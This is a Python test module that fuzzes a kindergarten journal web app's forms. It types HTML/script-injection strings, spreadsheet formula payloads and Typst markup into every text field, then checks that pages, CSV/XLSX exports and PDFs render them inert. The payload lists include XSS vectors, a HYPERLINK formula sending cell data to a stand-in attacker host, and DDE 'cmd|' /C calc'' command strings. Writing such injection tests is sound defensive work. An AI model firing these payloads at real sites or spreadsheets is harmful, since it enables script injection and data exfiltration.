"""Form input fuzzing: HTML and script injection in every text field is rendered inert.

Each payload is typed, through the real forms and the real login, into every field that
stores text — a group's name and teachers, a child's names and notes, a guardian's name,
phone and relation, a card's number and holder, corrections' and revocations' reasons, the
day's topic and the absent teacher, an absence's reason, accounts' names and titles, a
reader to update, the
settings' closed-day reason, rate and rule bases and meal names, a CSV import, a bank
statement's transfer titles and senders — and every
page is then fetched: no page may carry an element, an event-handler attribute, a script or
a `javascript:` link the payload made, and the pages that show a field must show its text
escaped (so the test is not passed by a value that was never stored). Refused forms, which
render what was typed back with the hub's reason, and values reflected from the address are
checked the same way. Reports are checked as print views, their CSV and XLSX as
spreadsheets: a cell of user text starting with `=`, `+`, `-` or `@` must not become a formula,
and their PDFs as read back: every typed text printed as typed (Typst markup too).
"""

from __future__ import annotations

import csv
import io
import json
import subprocess
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import date, datetime, time, timedelta
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import quote, urljoin, urlsplit

import pytest
from fastapi.testclient import TestClient
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markupsafe import escape
from openpyxl import load_workbook

from hub.rules.attendance import is_day_off
from hub.store import kiosk, messages, registry
from tests.journal_support import give_cards, local, store_tap
from tests.pages_support import Site
from tests.stream_support import open_stream
from tests.web_support import BASE_URL, log_in
from web.auth import on_site

DAY = date(2026, 11, 18)
CLOSED = date(2026, 11, 20)
MONTH = "2026-11"
NEW_CARD = "04DEAD01"
READINESS_YEAR = 2027
"""The school year in which the typed child (born 2021) is six."""

HTML_PAYLOADS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "{{7*7}} {% print 7*7 %}",
    "javascript:alert(1)",
]
FORMULA_PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1;"klik")',
    "+SUM(1;2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
TYPST_PAYLOADS = ['#import "x": * ] $x$ \\ #panic("y")']
"""Markup and code of Typst, which lays the PDFs out: a PDF must print it as typed."""
PAYLOADS = HTML_PAYLOADS + FORMULA_PAYLOADS + TYPST_PAYLOADS
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
"""What makes a spreadsheet read a cell as a formula (OWASP's CSV injection list)."""
URL_ATTRIBUTES = ("href", "src", "action", "formaction", "xlink:href")
MARKUP_TAGS = {"img", "svg", "iframe", "object", "embed", "math", "base", "meta", "link"}
"""Elements no page of the journal writes into its body: one there came from a payload.
(`meta` and `link` are allowed in `<head>`, which precedes any stored text.)"""


# -- what "inert" means, read from the page as a browser parses it -------------------------


class Parsed(HTMLParser):
    """The elements of a page, with where the head ends, and each script's text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None], bool]] = []
        self.scripts: list[tuple[dict[str, str | None], str]] = []
        self.in_body = False
        self._script: dict[str, str | None] | None = None
        self._text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "body":
            self.in_body = True
        self.elements.append((tag, dict(attrs), self.in_body))
        if tag == "script":
            self._script, self._text = dict(attrs), []

    def handle_data(self, data: str) -> None:
        if self._script is not None:
            self._text.append(data)

    def handle_endtag(self, tag: str) -> None:
        if tag == "script" and self._script is not None:
            self.scripts.append((self._script, "".join(self._text)))
            self._script = None


def injected(html: str) -> list[str]:
    """What on the page a payload could have made active; empty when all is inert."""
    page = Parsed()
    page.feed(html)
    found = []
    for tag, attrs, in_body in page.elements:
        for name, value in attrs.items():
            if name.startswith("on"):
                found.append(f"<{tag} {name}=…>")
            clean = "".join(ch for ch in (value or "") if ch > " ").lower()
            if name in URL_ATTRIBUTES and clean.startswith(("javascript:", "data:", "vbscript:")):
                found.append(f"<{tag} {name}={value!r}>")
        if tag in MARKUP_TAGS and (in_body or tag not in {"meta", "link"}):
            found.append(f"<{tag}>")
    for attrs, text in page.scripts:
        src = attrs.get("src") or ""
        if src and not src.startswith("/static/"):
            found.append(f"<script src={src!r}>")
        if "alert(" in text or "7*7" in text:
            found.append(f"<script>{text[:60]}</script>")
    return found


def assert_inert(html: str, payload: str, where: str) -> None:
    dangerous = any(ch in payload for ch in "<>\"'")
    assert not (dangerous and payload in html), f"{where}: the payload came through raw"
    assert injected(html) == [], f"{where}: {injected(html)}"


def shows(html: str, value: str) -> bool:
    """The value is on the page as text (escaped as Jinja escapes it)."""
    return str(escape(value)) in html


# -- a kindergarten whose every text field holds the payload -------------------------------


@dataclass
class Typed:
    site: Site
    payload: str
    group: int
    child: int
    account: int
    """The account the administrator made with the payload in its name and title."""
    guardian: int
    """The guardian the secretary added with the payload in the name, phone and relation."""
    refused: dict[str, str] = field(default_factory=dict)
    """Pages of refused forms (422, 401), as they came back with what was typed."""
    message: int = 0
    """The teacher's message to her group's parents (the payload in its subject, text and
    attachment's name), which the parent answered (the payload in the reply)."""

    def value(self, tag: str) -> str:
        return value(self.payload, tag)

    def get(self, role: str, path: str) -> str:
        response = self.site.client(role).get(path, follow_redirects=False)
        assert response.status_code == 200, (role, path, response.status_code, response.text[:500])
        return response.text

    def day_page(self, day: date = DAY) -> str:
        return f"/groups/{self.group}/days/{day.isoformat()}"


SHORT_FIELDS = {"telefon": 40}
"""Fields the hub keeps short: the payload is cut to fit (its start is what matters)."""


def value(payload: str, tag: str) -> str:
    """The payload first (a formula must start the cell), then a word naming the field."""
    limit = SHORT_FIELDS.get(tag)
    return f"{payload[: limit - len(tag) - 1] if limit else payload} {tag}"


def posted(client: TestClient, path: str, data: dict[str, str], *, expect: int = 303, **extra: Any) -> Any:
    response = client.post(path, data=data, follow_redirects=False, **extra)
    assert response.status_code == expect, (path, response.status_code, response.text[:800])
    return response


def type_everything(site: Site, payload: str) -> Typed:
    """Every form that stores text, filled in by the account whose work it is."""
    v = lambda tag: value(payload, tag)  # noqa: E731 - a short local alias reads best here
    director, secretary, admin = site.client("director"), site.client("secretary"), site.client("admin")
    parent, teacher = site.client("parent"), site.client("teacher")
    db = site.db()
    give_cards(db, site.settings, site.ania, site.olek)
    db.close()

    posted(director, "/registry/groups", {"name": v("grupa"), "teachers": v("wychowawczyni")})
    db = site.db()
    group = registry.find_group(db, v("grupa"))["id"]
    db.close()
    added = posted(
        secretary,
        "/registry/children",
        {
            "first_name": v("imie"),
            "last_name": v("nazwisko"),
            "group": str(group),
            "birth_date": "2021-03-03",
            "active_from": "2026-09-01",
            "fee_exempt": "",
            "notes": v("uwagi"),
        },
    )
    child = int(added.headers["location"].split("/")[-1].split("?")[0])
    posted(
        secretary,
        "/registry/guardians",
        {"name": v("opiekun"), "phone": v("telefon"), "relation": v("relacja"), "child_id": str(child)},
    )
    posted(
        secretary,
        "/cards",
        {"uid": NEW_CARD, "child_id": str(child), "number": v("numer"), "holder": v("posiadacz"),
         "from_day": "2026-09-01"},
    )  # fmt: skip
    db = site.db()
    store_tap(db, 10, NEW_CARD, local(site.settings, DAY, time(7, 30)))
    this_minute = datetime.now(site.settings.tz).replace(second=0, microsecond=0)
    store_tap(db, 11, NEW_CARD, this_minute)  # in the building now: on the presence board
    db.close()

    day = f"/groups/{group}/days/{DAY.isoformat()}"
    posted(
        director,
        f"{day}/corrections",
        {"child_id": str(child), "kind": "add_departure", "time": "15:30", "reason": v("korekta")},
    )
    posted(
        director,
        f"{day}/corrections",
        {"child_id": str(child), "kind": "mark_present", "reason": "do odwołania"},
    )
    db = site.db()
    last = max(row["id"] for row in db["corrections"].rows)
    db.close()
    posted(director, f"{day}/corrections/{last}/revoke", {"reason": v("odwolanie")})
    posted(
        director,
        f"{day}/topics",
        {"topic": v("temat"), "substitution": "yes", "substitute_for": v("zastepstwo")},
    )
    # The door (issue 14), today: Olek brought to the kiosk by the guardian whose name was
    # typed (also his; their typed phone takes no PIN: recorded through the hub), and Ania
    # marked "came now" on her group's grid with a typed reason.
    db = site.db()
    guardian = next(row["id"] for row in db["guardians"].rows if row["name"] == v("opiekun"))
    registry.link_guardian(db, guardian, site.olek, author="test")
    kiosk_id = site.client("kiosk").account["id"]  # type: ignore[attr-defined]
    kiosk.record(
        db, kiosk_id=kiosk_id, kiosk_login="kiosk", guardian_id=guardian, child_id=site.olek, direction="in"
    )
    db.close()
    posted(director, f"/groups/{site.motylki}/grid/{site.ania}", {"action": "came", "reason": v("drzwi")})
    ahead = datetime.now(site.settings.tz).date() + timedelta(days=1)
    while is_day_off(ahead):  # a day off is refused
        ahead += timedelta(days=1)
    posted(
        parent,
        f"/parent/children/{site.ania}/absences",
        {"first": ahead.isoformat(), "reason": v("nieobecnosc")},
    )
    later = ahead + timedelta(days=1)
    while is_day_off(later):
        later += timedelta(days=1)
    posted(
        parent,
        f"/parent/children/{site.ania}/absences",
        {"first": later.isoformat(), "reason": v("wycofana")},
    )
    db = site.db()
    withdrawn = max(row["id"] for row in db["absences"].rows)
    db.close()
    posted(parent, f"/parent/children/{site.ania}/absences/{withdrawn}/withdraw", {"reason": v("wycofanie")})

    made = posted(
        admin,
        "/admin/users",
        {"email": "nowe.konto@p11.example.pl", "name": v("konto"), "title": v("tytul"), "role": "teacher",
         "groups": str(group)},
        expect=200,
    )  # fmt: skip
    assert made.status_code == 200
    db = site.db()
    account = next(row["id"] for row in db["users"].rows if row["email"] == "nowe.konto@p11.example.pl")
    db.close()
    teacher_id = teacher.account["id"]  # type: ignore[attr-defined]
    posted(
        admin,
        f"/admin/users/{teacher_id}",
        {"name": v("nauczycielka"), "title": "", "groups": str(site.motylki)},
    )

    posted(director, "/settings/closed-days", {"day": CLOSED.isoformat(), "reason": v("zamkniete")})
    posted(admin, "/admin/backups/copies", {"recipient": v("odbiorca-kopii"), "location": v("miejsce-kopii")})
    posted(
        director, "/settings/rates", {"valid_from": "2027-09-01", "per_hour": "1,44", "basis": v("podstawa")}
    )
    posted(
        director,
        "/settings/rules",
        {"valid_from": "2027-09-01", "free_kind": "window", "free_start": "08:00", "free_end": "13:00",
         "rounding": "full_hour", "rounding_scope": "day", "grace_minutes": "0", "missing_scan": "flag_only",
         "age_exemption": "yes", "basis": v("zasady")},
    )  # fmt: skip
    posted(director, "/settings/meals", {"valid_from": "2026-09-01", "meal": v("posilek"), "price": "7,00"})
    # Announcements and the calendar (issue 11): one for everyone on the home pages, one for
    # the typed group withdrawn with a typed reason, a trip of Motylki with its place.
    today = datetime.now(site.settings.tz).date()
    week = {"shown_from": today.isoformat(), "shown_to": (today + timedelta(days=7)).isoformat()}
    posted(
        director,
        "/announcements",
        {"title": v("ogloszenie"), "body": v("tresc"), "audience": "everyone", **week},
    )
    posted(
        director,
        "/announcements",
        {"title": v("ogl-grupa"), "body": "x", "audience": f"group:{group}", **week},
    )
    db = site.db()
    newest = max(row["id"] for row in db["announcements"].rows)
    db.close()
    posted(director, f"/announcements/{newest}/withdraw", {"reason": v("wycofanie-ogl")})
    posted(
        teacher,
        "/calendar/events",
        {"kind": "trip", "title": v("wydarzenie"), "place": v("miejsce"), "group": str(site.motylki),
         "start_day": today.isoformat()},
    )  # fmt: skip

    out = io.StringIO()
    writer = csv.writer(out, delimiter=";")
    writer.writerow(["imię", "nazwisko", "grupa"])
    writer.writerow([v("imp-imie"), v("imp-nazwisko"), v("grupa")])
    sent = {"file": ("dzieci.csv", out.getvalue().encode(), "text/csv")}
    imported = posted(secretary, "/registry/import", {}, expect=200, files=sent)

    bank_file = io.StringIO()
    bank_rows = csv.writer(bank_file, delimiter=";")
    bank_rows.writerow(["Data operacji", "Kwota", "Tytuł", "Nadawca", "Rachunek", "Identyfikator"])
    bank_rows.writerow(["2026-11-20", "12,50", v("przelew"), v("nadawca"), "", v("ident")])
    sent = {"file": ("wyciag.csv", bank_file.getvalue().encode(), "text/csv")}
    bank_import = posted(secretary, "/money/import", {}, expect=200, files=sent)

    # The reply rule (issue 11): the teacher's sick leave with a typed note, ended early and a
    # second one cancelled with typed reasons; a parent's message (its subject typed) waived
    # by the teacher with a typed reason, and another left waiting (the due list, the panel).
    teacher_id = teacher.account["id"]  # type: ignore[attr-defined]
    absence_form = {
        "account_id": str(teacher_id),
        "kind": "sick",
        "first": "2026-11-16",
        "last": "2026-11-18",
    }
    posted(director, "/staff-absences", absence_form | {"note": v("notatka")})
    posted(secretary, "/staff-absences", absence_form | {"first": "2026-11-23", "last": "2026-11-24"})
    db = site.db()
    first_absence, second_absence = sorted(row["id"] for row in db["staff_absences"].rows)
    parent_id = parent.account["id"]  # type: ignore[attr-defined]
    waived, _waiting = (
        messages.add_message(
            db,
            sender_id=parent_id,
            actor="test",
            subject=v(tag),
            body="?",
            school_year="2026/2027",
            recipients=[messages.Recipient(teacher_id, "teacher")],
        )
        for tag in ("wiadomosc", "czeka")
    )
    db.close()
    posted(secretary, f"/staff-absences/{first_absence}/end", {"last": "2026-11-17", "reason": v("skrocona")})
    posted(secretary, f"/staff-absences/{second_absence}/cancel", {"reason": v("odwolana")})
    posted(teacher, f"/replies/{waived}/no-reply", {"reason": v("bez-odpowiedzi")})

    message_form = {"to": f"group_guardians:{site.motylki}", "subject": v("wiadomosc-temat")}
    posted(
        teacher, "/messages/new", {**message_form, "body": v("wiadomosc-tresc")},
        files=[("files", (v("zalacznik") + ".pdf", b"%PDF-1.7 plan", "application/pdf"))],
    )  # fmt: skip
    db = site.db()
    message = messages.inbox(db, parent.account["id"])[0]  # type: ignore[attr-defined]  # newest first
    db.close()
    posted(parent, f"/messages/{message['id']}/reply", {"body": v("odpowiedz")})

    typed = Typed(site, payload, group, child, account, guardian, message=message["id"])
    typed.refused["message to nobody"] = posted(
        teacher,
        "/messages/new",
        {"to": v("adresat"), "subject": v("temat-w"), "body": v("tresc-w")},
        expect=422,
    ).text
    typed.refused["reply too long"] = posted(
        parent, f"/messages/{message['id']}/reply", {"body": v("odpowiedz2") + "x" * 20_001}, expect=422
    ).text
    typed.refused["import"] = imported.text
    # Erasing the typed child (she attends: refused) and the typed guardian, unconfirmed.
    typed.refused["erase child"] = posted(admin, f"/registry/children/{child}/erase", {"confirm": "yes"},
                                          expect=422).text  # fmt: skip
    typed.refused["erase guardian"] = posted(
        admin, f"/registry/guardians/{guardian}/erase", {}, expect=422
    ).text
    typed.refused["bank import"] = bank_import.text
    bad_bank = io.StringIO()
    csv.writer(bad_bank, delimiter=";").writerows(
        [["Data operacji", "Kwota", "Tytuł", "Nadawca", "Rachunek", "Identyfikator"],
         ["2026-11-21", v("kwota-przelewu"), "x", "y", "", "2"]]
    )  # fmt: skip
    typed.refused["bank import refused"] = posted(
        secretary, "/money/import", {}, expect=422,
        files={"file": (v("wyciag") + ".csv", bad_bank.getvalue().encode(), "text/csv")},
    ).text  # fmt: skip
    # Refused forms come back with what was typed and the hub's reason, which quotes it.
    bad_import = io.StringIO()
    csv.writer(bad_import, delimiter=";").writerows(
        [["imię", "nazwisko", "grupa", "data_urodzenia"], ["A", "B", "C", v("data")]]
    )
    typed.refused["import refused"] = posted(
        secretary, "/registry/import", {}, expect=422,
        files={"file": (v("plik") + ".csv", bad_import.getvalue().encode(), "text/csv")},
    ).text  # fmt: skip
    typed.refused["money settings"] = posted(
        director, "/money/settings",
        {"due_day": v("dzien"), "account_prefix": v("prefiks"), "interest_threshold": "870"}, expect=422,
    ).text  # fmt: skip
    typed.refused["group twice"] = posted(
        director, "/registry/groups", {"name": v("grupa"), "teachers": ""}, expect=422
    ).text
    typed.refused["account e-mail"] = posted(
        admin, "/admin/users", {"email": v("email"), "name": v("konto2"), "role": "teacher"}, expect=422
    ).text
    typed.refused["card uid"] = posted(
        secretary, "/cards", {"uid": v("uid"), "child_id": str(child), "holder": v("posiadacz2")}, expect=422
    ).text
    typed.refused["rate"] = posted(
        director,
        "/settings/rates",
        {"valid_from": "2027-09-01", "per_hour": v("kwota"), "basis": ""},
        expect=422,
    ).text
    typed.refused["child without group"] = posted(
        secretary, "/registry/children", {"first_name": v("imie2"), "last_name": "X", "group": v("brak")},
        expect=422,
    ).text  # fmt: skip
    typed.refused["topic ahead"] = posted(
        director, f"/groups/{group}/days/2099-01-05/topics", {"topic": v("temat2")}, expect=422
    ).text
    typed.refused["kiosk pin"] = posted(
        site.client("kiosk"), "/kiosk", {"phone": v("kiosk-telefon"), "pin": v("pin")}, expect=422
    ).text
    typed.refused["pin set"] = posted(
        secretary, f"/kiosk/pins/{guardian}", {"pin": v("nowy-pin"), "repeat_pin": v("nowy-pin")}, expect=422
    ).text
    typed.refused["door tap"] = posted(
        director, f"/groups/{group}/grid/{child}", {"action": v("akcja")}, expect=422
    ).text
    typed.refused["backup now"] = posted(
        director, "/admin/backups/run", {"purpose": v("cel-kopii")}, expect=422
    ).text
    typed.refused["year end step"] = posted(
        admin, "/year-end/archive", {"year": v("rok-szkolny")}, expect=422
    ).text
    typed.refused["extra copy"] = posted(
        director, "/admin/backups/copies", {"recipient": v("odbiorca2"), "location": ""}, expect=422
    ).text
    typed.refused["reader update"] = posted(
        director, "/readers/update", {"reader": v("czytnik"), "version": v("wersja")}, expect=422
    ).text
    typed.refused["announcement too long"] = posted(
        director, "/announcements",
        {"title": v("ogl-tytul") * 40, "body": v("ogl-tresc") * 2000, "audience": v("odbiorcy"), **week},
        expect=422,
    ).text  # fmt: skip
    typed.refused["announcement dates"] = posted(
        director, "/announcements",
        {"title": v("ogl-daty"), "body": "x", "audience": "everyone", "shown_from": "2099-12-31",
         "shown_to": "2000-01-01"},
        expect=422,
    ).text  # fmt: skip
    typed.refused["announcement date typed"] = posted(
        director, "/announcements",
        {"title": v("ogl-data"), "body": "x", "audience": "everyone", "shown_from": v("od"),
         "shown_to": "3000-01-01"},
        expect=422,
    ).text  # fmt: skip
    typed.refused["event end before start"] = posted(
        teacher, "/calendar/events",
        {"kind": "trip", "title": v("wyd-godziny"), "place": v("miejsce2"), "group": str(site.motylki),
         "start_day": today.isoformat(), "start_time": "10:00", "end_time": "09:00"},
        expect=422,
    ).text  # fmt: skip
    typed.refused["event typed"] = posted(
        teacher, "/calendar/events",
        {"kind": v("rodzaj"), "title": v("wyd-rodzaj"), "group": str(site.motylki),
         "start_day": v("data-wyd"), "start_time": v("godzina")},
        expect=422,
    ).text  # fmt: skip
    typed.refused["event too long"] = posted(
        teacher, "/calendar/events",
        {"kind": "trip", "title": v("wyd-dlugi") * 40, "group": str(site.motylki), "start_day": "2026-01-01",
         "end_day": "2026-12-31"},
        expect=422,
    ).text  # fmt: skip
    # The notification choices: only known boxes count, whatever else a form sends
    posted(
        parent,
        "/account/notifications",
        {v("rodzaj"): "1", "arrival.push": v("wartosc"), "message.email": "1"},
    )
    typed.refused["staff absence"] = posted(
        director, "/staff-absences", {"account_id": v("kto"), "kind": v("rodzaj"), "first": v("od"),
                                      "note": v("notatka2")}, expect=422,
    ).text  # fmt: skip
    typed.refused["staff absence end"] = posted(
        director,
        f"/staff-absences/{first_absence}/end?show=all",
        {"last": v("do"), "reason": v("powod")},
        expect=422,
    ).text
    typed.refused["no reply"] = posted(
        teacher, f"/replies/{waived}/no-reply", {"reason": v("bez-odpowiedzi2")}, expect=422
    ).text
    anonymous = TestClient(site.app, base_url=BASE_URL)
    typed.refused["login"] = log_in(anonymous, v("login"), "Zle-Haslo-2026").text
    type_pedagogy(typed, director)
    return typed


def type_pedagogy(typed: Typed, director: TestClient) -> None:
    """The work plan with the director's remark, the observations (one changed by the
    director, its first text kept in the history) and the readiness information (issue 12)."""
    v, group, child = typed.value, typed.group, typed.child
    plans = f"/groups/{group}/plans"
    posted(director, plans, {"month": MONTH, "text": v("plan")})
    posted(director, f"{plans}/{MONTH}/submit", {})
    posted(director, f"{plans}/{MONTH}/return", {"remark": v("uwaga-planu")})
    observations = f"/children/{child}/observations"
    entry = {"day": DAY.isoformat(), "kind": "observation", "for_parents": "yes"}
    posted(director, observations, {**entry, "area": v("obszar"), "text": v("obserwacja")})
    posted(director, observations, {**entry, "area": "mowa", "text": v("do-zmiany")})
    db = typed.site.db()
    changed = max(row["id"] for row in db["observations"].rows)
    db.close()
    posted(director, f"{observations}/{changed}", {**entry, "area": "mowa", "text": v("zmieniona")})
    readiness = f"/children/{child}/readiness/{READINESS_YEAR}"
    posted(director, readiness, {"text": v("gotowosc")})
    posted(director, f"{readiness}/finalize", {})
    typed.refused["plan remark"] = posted(
        director, f"{plans}/{MONTH}/return", {"remark": v("uwaga2")}, expect=422
    ).text
    typed.refused["plan month"] = posted(
        director, plans, {"month": v("miesiac"), "text": v("plan2")}, expect=422
    ).text
    wrong_day = {**entry, "day": v("dzien-obs"), "area": v("obszar2"), "text": v("obserwacja2")}
    typed.refused["observation day"] = posted(director, observations, wrong_day, expect=422).text
    typed.refused["readiness not six"] = posted(
        director,
        f"/children/{typed.site.olek}/readiness/{READINESS_YEAR}",
        {"text": v("gotowosc2")},
        expect=422,
    ).text
    typed.refused["readiness given"] = posted(
        director, f"{readiness}/given", {"given_on": v("wydano")}, expect=422
    ).text


@pytest.fixture(scope="module", params=PAYLOADS, ids=[f"payload{n}" for n in range(len(PAYLOADS))])
def typed(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Typed]:
    site = Site.make(tmp_path_factory.mktemp("injection"))
    yield type_everything(site, request.param)


# -- the pages ------------------------------------------------------------------------------


def pages(typed: Typed) -> list[tuple[str, str]]:
    """Every page (role, path) that could show what was typed."""
    c, g, a, ania = typed.child, typed.group, typed.account, typed.site.ania
    director = [
        "/",
        "/presence",
        "/presence/board",
        typed.day_page(),
        typed.day_page(CLOSED),
        f"/children/{c}",
        f"/children/{c}?month={MONTH}",
        "/cards",
        "/cards?show=all",
        "/readers",
        "/reports",
        "/registry/children",
        f"/registry/children?group={g}",
        f"/registry/children/{c}",
        "/registry/groups",
        "/registry/guardians",
        "/registry/import",
        "/settings",
        "/months",
        "/money",
        f"/parent/children/{c}/money",
        f"/inconsistencies?from=2026-11-12&to={DAY}",
        "/audit",
        "/admin/users",
        f"/admin/users/{a}",
        "/admin/logins",
        "/admin/backups",
        f"/parent/children/{c}",
        f"/parent/children/{c}/data",
        "/parent",
        "/account",
        "/account/password",
        "/account/welcome",
        f"/groups/{g}/grid",
        f"/groups/{g}/grid/rows",
        f"/groups/{typed.site.zabki}/grid",
        f"/kiosk/pins/{typed.guardian}",
        f"/statistics?group={g}&period={MONTH}",
        f"/statistics?group=&period={MONTH[:4]}",
        "/announcements",
        "/calendar",
        "/plans",
        f"/groups/{g}/plans",
        f"/groups/{g}/plans/{MONTH}",
        f"/reports/work-plan/{g}/{MONTH}",
        "/observations",
        f"/children/{c}/observations",
        f"/children/{c}/readiness/{READINESS_YEAR}",
        f"/reports/readiness/{c}/{READINESS_YEAR}",
        f"/parent/children/{c}/observations",
        "/account/notifications",
        "/staff-absences",
        "/staff-absences?show=all",
        "/replies/panel",
    ]
    # With one child, the parent's /parent is a redirect to that child's page, listed here.
    parent = [f"/parent/children/{ania}", f"/parent/children/{ania}/data", "/reports", "/account",
              f"/parent/children/{ania}/money", "/account/pin", "/announcements", "/calendar",
              "/account/notifications"]  # fmt: skip
    teacher = ["/account", "/presence", "/registry/children", typed.day_page(), f"/groups/{g}/grid",
               f"/statistics?period={MONTH}", f"/groups/{typed.site.motylki}/grid", "/announcements",
               "/calendar", "/replies"]  # fmt: skip
    m = typed.message
    parent += ["/messages", f"/messages/{m}", "/messages/new", "/messages/sent"]
    teacher += ["/messages", f"/messages/{m}", "/messages/new", "/messages/sent"]
    return (
        [("director", path) for path in director]
        + [("parent", path) for path in parent]
        + [("teacher", path) for path in teacher]
        + [
            ("kiosk", "/kiosk"),
            ("admin", "/messages/years"),
            ("admin", "/year-end"),
            ("director", "/year-end"),
            ("admin", f"/registry/children/{c}/erase"),
            ("admin", f"/registry/guardians/{typed.guardian}/erase"),
            ("admin", f"/admin/users/{a}/erase"),
        ]
    )


PAGE_ROUTES_NOT_CRAWLED = {"/login", "/days", "/grid", "/registry", "/language/{code}", "/docs", "/redoc",
                           "/docs/oauth2-redirect", "/reports/{name}", "/presence/events",
                           "/favicon.ico", "/calendar/feed/{token}.ics", "/account/data.json",
                           "/account/data.pdf", "/messages/attachments/{attachment_id}"}  # fmt: skip
"""GET pages the crawl does not fetch as such: the login form (fetched refused, below),
redirects, the API's own pages, reports, the board's event stream (each checked below) and
the site's icon (a file), the calendar feed (an .ics file, no HTML) and one's own data (a
JSON download of what is stored, escaped by JSON; its PDF is read back below)."""


def test_the_crawl_covers_every_page(typed: Typed) -> None:
    """A new page joins the crawl: every GET route that renders HTML is in `pages`."""
    crawled = {path.split("?")[0] for _role, path in pages(typed)}
    ids = {
        str(typed.child): "{child_id}",
        str(typed.site.ania): "{child_id}",
        str(typed.account): "{user_id}",
        str(typed.guardian): "{guardian_id}",
        MONTH: "{plan_month}",
        str(READINESS_YEAR): "{year}",
    }
    templates = set()
    for path in crawled:
        parts = [ids.get(part, part) for part in path.split("/")]
        if path.startswith("/groups/"):
            parts = [
                "",
                "groups",
                "{group_id}",
                *(parts[3:] if parts[3] in ("grid", "plans") else ["days", "{day}"]),
            ]
        if path.startswith("/reports/work-plan/"):
            parts = ["", "reports", "work-plan", "{group_id}", "{plan_month}"]
        if path == f"/messages/{typed.message}":
            parts = ["", "messages", "{message_id}"]
        templates.add("/".join(parts))
    routes = set()
    for route in _walk(typed.site.app.routes):
        if "GET" in (getattr(route, "methods", None) or ()) and not route.path.startswith(
            ("/api/", "/events")
        ):
            routes.add(route.path)
    routes -= {"/openapi.json"} | PAGE_ROUTES_NOT_CRAWLED
    assert sorted(routes - templates) == []


def _walk(routes: list[Any]) -> Iterator[Any]:
    for route in routes:
        if hasattr(route, "effective_candidates"):  # FastAPI 0.165's included routers
            yield from _walk(route.effective_candidates())
        else:
            yield route


def test_every_page_renders_what_was_typed_inert(typed: Typed) -> None:
    for role, path in pages(typed):
        assert_inert(typed.get(role, path), typed.payload, f"{role} {path}")


def test_refused_forms_render_what_was_typed_inert(typed: Typed) -> None:
    for name, html in typed.refused.items():
        assert_inert(html, typed.payload, name)
    assert shows(typed.refused["account e-mail"], typed.value("email"))
    assert shows(typed.refused["login"], typed.value("login"))
    assert shows(typed.refused["erase child"], typed.value("imie"))
    assert shows(typed.refused["erase guardian"], typed.value("opiekun"))
    assert shows(typed.refused["child without group"], typed.value("imie2"))
    assert shows(typed.refused["reader update"], typed.value("czytnik"))
    assert shows(typed.refused["announcement dates"], typed.value("ogl-daty"))
    assert shows(typed.refused["event end before start"], typed.value("miejsce2"))
    assert shows(typed.refused["backup now"], typed.value("cel-kopii"))
    assert shows(typed.refused["extra copy"], typed.value("odbiorca2"))
    assert shows(typed.refused["plan month"], typed.value("plan2"))
    assert shows(typed.refused["observation day"], typed.value("obserwacja2"))
    assert shows(typed.refused["readiness not six"], typed.value("gotowosc2"))
    assert shows(typed.refused["staff absence"], typed.value("notatka2"))
    assert shows(typed.refused["staff absence end"], typed.value("powod"))
    assert shows(typed.refused["message to nobody"], typed.value("temat-w"))
    assert shows(typed.refused["message to nobody"], typed.value("tresc-w"))


SHOWN: dict[str, list[tuple[str, str]]] = {
    "grupa": [("director", "/registry/groups"), ("director", "/registry/children"), ("director", "{day}"),
              ("director", "/reports"), ("director", "/children/{child}"), ("teacher", "/presence")],
    "wychowawczyni": [("director", "/registry/groups")],
    "imie": [("teacher", "/presence"), ("director", "/registry/children"),
             ("director", "/registry/children/{child}"), ("director", "/children/{child}"),
             ("director", "{day}"), ("director", "/cards"), ("director", "/parent/children/{child}/data")],
    "nazwisko": [("director", "/registry/children"), ("director", "/registry/children/{child}"),
                 ("director", "/children/{child}"), ("director", "{day}"), ("director", "/cards")],
    "uwagi": [("director", "/registry/children/{child}"), ("director", "/parent/children/{child}/data")],
    "opiekun": [("director", "/registry/guardians"), ("director", "/registry/children/{child}"),
                ("director", "/children/{child}"), ("director", "/parent/children/{child}/data"),
                ("director", "/groups/{zabki}/grid"), ("director", "/parent/children/{olek}"),
                ("director", "/kiosk/pins/{guardian}")],
    "telefon": [("director", "/registry/guardians"), ("director", "/registry/children/{child}")],
    "relacja": [("director", "/registry/children/{child}"), ("director", "/parent/children/{child}/data")],
    "numer": [("director", "/cards"), ("director", "/registry/children/{child}"),
              ("director", "/children/{child}")],
    "posiadacz": [("director", "/cards"), ("director", "{day}"), ("director", "/children/{child}"),
                  ("director", "/parent/children/{child}")],
    "korekta": [("director", "{day}")],
    "drzwi": [("director", "{today}")],  # Ania's, in Motylki
    "odwolanie": [("director", "{day}")],
    "temat": [("director", "{day}")],
    "zastepstwo": [("director", "{day}")],
    "nieobecnosc": [("parent", "/parent/children/{ania}")],
    "konto": [("director", "/admin/users"), ("director", "/admin/users/{account}")],
    "tytul": [("director", "/admin/users/{account}")],
    "nauczycielka": [("teacher", "/account"), ("director", "/admin/users")],
    "zamkniete": [("director", "/settings")],  # the day itself says "kindergarten closed"
    "podstawa": [("director", "/settings")],
    "posilek": [("director", "/settings")],
    "imp-imie": [("director", "/registry/children")],
    "przelew": [("director", "/money")],
    "nadawca": [("director", "/money")],
    "ogloszenie": [("director", "/announcements"), ("director", "/"), ("parent", "/parent/children/{ania}"),
                   ("parent", "/announcements")],
    "tresc": [("director", "/announcements"), ("parent", "/parent/children/{ania}")],
    "ogl-grupa": [("director", "/announcements")],
    "wycofanie-ogl": [("director", "/announcements")],
    "wydarzenie": [("parent", "/calendar"), ("teacher", "/calendar"), ("director", "/calendar")],
    "miejsce": [("parent", "/calendar")],
    "odbiorca-kopii": [("director", "/admin/backups")],
    "miejsce-kopii": [("director", "/admin/backups")],
    "plan": [("director", "/groups/{group}/plans/2026-11"),
